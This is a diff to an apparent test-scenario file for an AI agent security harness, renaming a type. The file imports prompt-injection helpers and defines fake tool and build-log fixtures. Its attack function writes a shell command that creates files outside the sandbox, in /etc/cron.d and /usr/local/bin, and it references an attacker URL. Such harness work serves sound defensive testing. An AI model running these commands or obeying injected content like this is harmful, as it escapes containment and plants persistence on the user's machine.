@@ -1,5 +1,5 @@
 import { disguise, evil, evilBash, evilSay, evilWrite, LOOT } from '../injection.ts'
-import { bash, type Place, read, type Scenario } from '../scenario.ts'
+import { bash, read, type Scenario, type ScenarioFolders } from '../scenario.ts'
 
 const userTool = (answer: string): string =>
   `export default { name: 'lookup', description: 'Looks something up.', input: { type: 'object' }, run: async () => ${JSON.stringify(answer)} }\n`
@@ -7,7 +7,7 @@ const log = (text: string) => ({ files: { 'build.log': text } })
 const catLog = { look: () => [bash('cat build.log')], allow: () => ['bash:cat build.log'] }
 
 /** What a program tries once a user has let it run: only the sandbox is left. */
-const attack = ({ outside, home, data, attacker, token }: Place): string => {
+const attack = ({ outside, home, data, attacker, token }: ScenarioFolders): string => {
   const { port } = new URL(attacker)
   return [
     `touch ${outside}/new ${home}/new ${data}/new /etc/cron.d/${token} /usr/local/bin/${token} /var/tmp/${token}`,
